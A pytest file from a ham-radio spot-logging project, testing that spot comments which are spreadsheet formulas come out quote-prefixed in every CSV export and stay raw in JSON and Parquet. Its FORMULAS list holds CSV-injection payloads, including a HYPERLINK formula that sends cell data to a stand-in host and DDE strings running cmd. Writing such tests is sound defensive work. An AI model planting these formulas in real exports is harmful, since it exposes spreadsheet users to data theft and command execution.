"""CSV injection (CWE-1236): strangers' comments that a spreadsheet would run, in every CSV.

Spots whose comments are formulas are stored, then read back through each CSV the project
writes: the API's `/v1/spots.csv` (PostgreSQL COPY), `dxspots export --format csv`
(pandas) and the dashboard's download. Formulas must come out with a leading `'`, signal
reports such as "-16 dB" unchanged, and JSON, JSON lines and Parquet with the raw text.
The rule is written for Python and for SQL; both are held equal here.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import psycopg
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from psycopg import sql

from dxspots.spreadsheet import FORMULA_START, inert, inert_sql, is_formula
from tests.conftest import login_role
from tests.e2e.apiprocess import api_process
from tests.e2e.test_dashboard import app, no_errors
from tests.integration.test_cli import run
from tests.spotset import make_spots, store

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click for QSL")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "-1+1",
    "+1|x",
    "-",
    "\uff1dSUM(1)",  # a full-width =
]
ORDINARY = ["-16 dB", "+5 kHz up", "-10", "+599 TNX", "-12 dB 25 WPM CQ", "CQ DX", "TNX QSO",
            "QSX 14.025", "5NN", "", "dB -16", "up 5 = split"]  # fmt: skip


def test_the_rule_on_known_cells() -> None:
    for text in FORMULAS:
        assert is_formula(text) and inert(text) == "'" + text, text
    for text in ORDINARY:
        assert not is_formula(text) and inert(text) == text, text


@pytest.fixture(scope="module")
def conn(pg_server: str) -> Iterator[psycopg.Connection[tuple[str]]]:
    with psycopg.connect(pg_server, autocommit=True) as conn:
        yield conn


def sql_inert(conn: psycopg.Connection[tuple[str]], text: str) -> str:
    row = conn.execute(
        sql.SQL("SELECT {}").format(inert_sql(sql.SQL("%(t)s::text"))), {"t": text}
    ).fetchone()
    assert row is not None
    return row[0]


def test_python_and_sql_agree_on_known_cells(conn: psycopg.Connection[tuple[str]]) -> None:
    for text in FORMULAS + ORDINARY:
        assert sql_inert(conn, text) == inert(text), text


_first = st.sampled_from(list(FORMULA_START) + list("0123456789 aZ'\"|(!"))
_rest = st.text(
    alphabet=st.sampled_from(list("0123456789 aZdBkHz.,:%#+-=@|()!'\"\t\n\r\uff0b")), max_size=12
)


@settings(max_examples=400, deadline=None, database=None, derandomize=True)
@given(text=st.builds(lambda a, b: a + b, _first, _rest))
def test_python_and_sql_agree_on_drawn_cells(
    conn: psycopg.Connection[tuple[str]], text: str
) -> None:
    assert sql_inert(conn, text) == inert(text)


@pytest.fixture
def hostile_dsn(db_dsn: str) -> str:
    spots = make_spots(datetime.now(UTC), count=len(FORMULAS) + len(ORDINARY))
    comments = FORMULAS + ORDINARY
    spots = [
        spot._replace(comment=comments[i]) if i < len(comments) else spot
        for i, spot in enumerate(spots)
    ]
    store(db_dsn, spots)
    return db_dsn


def check_csv(text: str) -> None:
    comments = [row["comment"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    for formula in FORMULAS:
        assert "'" + formula in comments, formula
        assert formula not in comments, formula
    for ordinary in ORDINARY:
        assert ordinary in comments, ordinary


def test_api_csv_neutralises_formulas_and_json_keeps_them(hostile_dsn: str) -> None:
    with login_role(hostile_dsn, "dxspots_reader") as reader, api_process(reader) as api:
        answer = api.get("/v1/spots.csv?days=365&limit=1000")
        assert answer.status == 200
        check_csv(answer.body.decode())
        items = api.get("/v1/spots?days=365&limit=1000").json()["items"]
    raw = {item["comment"] for item in items}
    assert set(FORMULAS) <= raw


def test_cli_export_csv_neutralises_and_other_formats_keep_the_text(
    hostile_dsn: str, tmp_path: Path
) -> None:
    env = {"DXSPOTS_DATABASE_URL": hostile_dsn}
    window = ["--days", "365"]
    out = tmp_path / "spots.csv"
    result = run("export", *window, "-o", str(out), env=env)
    assert result.returncode == 0, result.stderr
    with out.open(newline="") as text:
        check_csv(text.read())
    lines = run("export", *window, "--format", "jsonl", env=env)
    assert set(FORMULAS) <= {json.loads(line)["comment"] for line in lines.stdout.splitlines()}
    parquet = tmp_path / "spots.parquet"
    assert run("export", *window, "-o", str(parquet), env=env).returncode == 0
    assert set(FORMULAS) <= set(pd.read_parquet(parquet)["comment"])


def test_dashboard_download_neutralises_formulas(
    hostile_dsn: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    with login_role(hostile_dsn, "dxspots_reader") as reader:
        at = app(reader, monkeypatch)
        at.switch_page("views/export.py").run()
        no_errors(at)
        at.button[0].click().run()
        no_errors(at)
        check_csv(at.session_state["export_prepared"]["file"].decode())
